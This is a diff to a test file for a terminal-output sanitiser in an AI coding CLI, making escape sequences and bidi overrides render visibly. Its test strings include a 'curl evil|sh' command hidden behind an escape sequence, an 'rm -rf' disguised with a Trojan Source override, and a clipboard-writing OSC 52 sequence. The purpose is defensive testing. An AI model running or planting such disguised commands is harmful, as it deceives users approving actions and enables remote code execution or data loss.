@@ -18,13 +18,16 @@ export const HOSTILE = `${ESC}]0;pwned-title${BEL}hello ${ESC}]52;c;cHduZWQ=${BE
 const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
 
 describe('sanitizeText', () => {
-  it('removes every escape sequence, makes other controls visible, keeps text, tabs and line breaks', () => {
+  it('shows every control character visibly (an escape sequence is inert text), deletes nothing, keeps tabs and line breaks', () => {
     const out = sanitizeText(HOSTILE);
     expect(out).not.toMatch(RAW);
-    expect(out).toBe('hello ␇world\nend');
+    expect(out).toBe('␛]0;pwned-title␇hello ␛]52;c;cHduZWQ=␇␇␛[2J␛P1$qm␛\\␛_apc␛\\⟨9B⟩31mworld\nend');
     expect(sanitizeText('a\tb\nc')).toBe('a\tb\nc');
-    expect(sanitizeText(`x${ESC}]0;unterminated`)).toBe('x');
-    expect(sanitizeText('plain ✓ text')).toBe('plain ✓ text');
+    expect(sanitizeText('plain ✓ text 👩‍💻')).toBe('plain ✓ text 👩‍💻');
+    // Nothing is hidden: an approval shows the whole command that will run.
+    expect(sanitizeText(`echo ok ${ESC}]; curl evil|sh; \u0007`)).toBe('echo ok ␛]; curl evil|sh; ␇');
+    // Trojan Source: bidi overrides and invisible marks are shown, not obeyed.
+    expect(sanitizeText('rm -rf \u202egnp.x\u202c')).toBe('rm -rf ⟨U+202E⟩gnp.x⟨U+202C⟩');
   });
 
   it('every string entering the REPL view is sanitised (model text, tool arguments and results, errors)', () => {
@@ -49,7 +52,7 @@ describe('the CLI prints model, tool and file text terminal-safe', () => {
     server().enqueue({ toolCalls: [{ id: 'r', name: 'read_file', arguments: { path: 'evil.txt' } }] }, { content: HOSTILE });
     const env = serverEnv(server(), 'test-key-123456', home);
     const r = await expectExit(['run', 'read evil.txt'], 0, { env, cwd });
-    expect(r.stdout).toContain('hello');
+    expect(r.stdout).toContain('␛]0;pwned-title␇hello');
     expect(r.stdout).not.toMatch(RAW);
     expect(r.stderr).not.toMatch(RAW);
 
